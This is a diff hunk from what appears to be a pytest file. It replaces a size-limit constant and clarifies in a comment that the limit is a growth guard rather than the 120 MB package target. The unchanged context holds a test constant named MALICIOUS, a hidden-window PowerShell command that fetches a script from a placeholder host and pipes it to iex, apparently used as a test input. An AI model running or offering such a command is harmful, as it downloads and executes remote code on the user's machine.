@@ -42,7 +42,10 @@ pytestmark = [
 ]
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
-MAX_SIZE = 135_000_000  # bytes, the size target of the Linux folder (bench/package.py)
+# bytes: a guard against the Linux folder growing unnoticed, NOT the size target. The target is
+# bench/package.py's SIZE_TARGET_MB (120 MB, issue 6), which the folder does not meet since
+# Hyperscan came (132.5 MB measured on a fresh build); this is that figure plus 2 MB
+MAX_SIZE = 134_500_000
 MAX_READY_S = 3.0
 
 
